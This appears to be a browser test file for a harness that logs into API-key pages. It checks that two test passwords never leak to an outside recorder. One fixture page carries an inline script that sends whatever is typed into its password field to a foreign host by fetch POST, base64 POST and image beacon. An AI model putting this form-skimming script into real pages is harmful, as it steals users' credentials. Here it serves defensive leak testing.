import { loginForm } from '../support/hostile-page.js';
import { judgeAt } from '../support/key-page.js';
import { startOddPage } from '../support/odd-page.js';
import { startRecorders } from '../support/recorder.js';
import { expect, inCi, inFull, test } from '../support/test.js';

const first = { name: 'ada', password: 'evening-harbour-lantern' };
const second = { name: 'bo', password: 'winter-garden' };

/** The settings of both accounts. Nothing is pressed. */
const bothAccounts = {
  username: first.name,
  password: first.password,
  generate: false,
  withoutKey: { username: second.name, password: second.password },
} as const;

/**
 * A page for both accounts. What is typed into its log-in form is sent to `foreign`, and each page
 * has a style from `folder`.
 */
const startPage = (foreign: string, folder: string) =>
  startOddPage({
    page: () => '',
    handle: (request, response, state, body) => {
      if (request.url !== '/key' && request.url !== '/log-in') return false;
      if (request.method === 'POST') {
        const given = new URLSearchParams(body);
        const user = [first, second].find(({ name }) => name === given.get('username'));
        const cookie = user && user.password === given.get('password') ? user.name : '';
        response.writeHead(303, { location: '/key', 'set-cookie': `user=${cookie}; Secure` }).end();
        return true;
      }
      const user = /user=(\w+)/.exec(request.headers.cookie ?? '')?.[1];
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      if (user === undefined)
        response.end(
          `<form method="post" action="/log-in"><label>Username <input name="username"></label><label>Password <input type="password" name="password"></label><button>Log in</button></form>
           <script>const field = document.querySelector('[type=password]');
           field.oninput = () => { if (field.value === '') return;
             fetch('${foreign}/?c=body', { method: 'POST', mode: 'no-cors', body: field.value });
             fetch('${foreign}/?c=base64', { method: 'POST', mode: 'no-cors', body: btoa(field.value) });
             new Image().src = '${foreign}/?c=url&s=' + field.value;
             new Image().src = '/own?s=' + field.value; };</script>`,
        );
      else
        response.end(
          `<link rel="stylesheet" href="/${folder}/page.css"><h1>API key</h1><p>${user === first.name ? state.keys[0] : 'You have no API key yet.'}</p><form method="post"><button>Generate API key</button></form>`,
        );
      return true;
    },
  });

test('a log-in that ends the one before does not hide the message beside a key', inFull, async ({ chromium }) => {
  let session = 'none yet';
  const page = await startOddPage({
    page: () => '',
    handle: (request, response, state, body) => {
      if (request.url !== '/key') return false;
      if (request.method === 'POST') {
        const user = new URLSearchParams(body).get('username');
        const own = `${user}-${crypto.randomUUID()}`;
        if (user === first.name) session = own;
        response.writeHead(303, { location: '/key', 'set-cookie': `session=${own}; Secure` }).end();
        return true;
      }
      const given = /session=(\S+)/.exec(request.headers.cookie ?? '')?.[1] ?? '';
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(
        given === session || given.startsWith(second.name)
          ? `<h1>API key</h1><p>You have no API key yet.</p><p>${given === session ? state.keys[0] : ''}</p>`
          : loginForm('method="post"'),
      );
      return true;
    },
  });
  page.state.keys.push('f3a9c1d07e5b48a2960fd1c3b7e8245a6d90f1be');
  try {
    const judged = await judgeAt(page, chromium, bothAccounts);
    expect(judged.outcomes, judged.everything).toMatchObject({
      'shows-the-current-key': 'passed',
      'says-when-there-is-none': 'failed',
    });
  } finally {
    await page.close();
  }
});

test('neither password goes elsewhere, and a folder that is called like one is loaded', inCi, async ({ chromium }) => {
  const recorders = await startRecorders();
  const folder = `files/${second.password}`;
  const page = await startPage(recorders.foreign, folder);
  page.state.keys.push('f3a9c1d07e5b48a2960fd1c3b7e8245a6d90f1be');
  try {
    const judged = await judgeAt(page, chromium, bothAccounts);
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('passed');
    expect(judged.outcomes['shows-the-current-key'], judged.everything).toBe('passed');
    expect(recorders.channelsOf(first.password, second.password)).toEqual([]);
    const asked = page.state.requests.map(({ url }) => url);
    expect(asked).toContain(`/${folder}/page.css`);
    expect(asked.filter((url) => url.startsWith('/own'))).toEqual([]);
    for (const { password } of [first, second]) expect(judged.everything).not.toContain(password);
  } finally {
    await Promise.all([page.close(), recorders.close()]);
  }
});
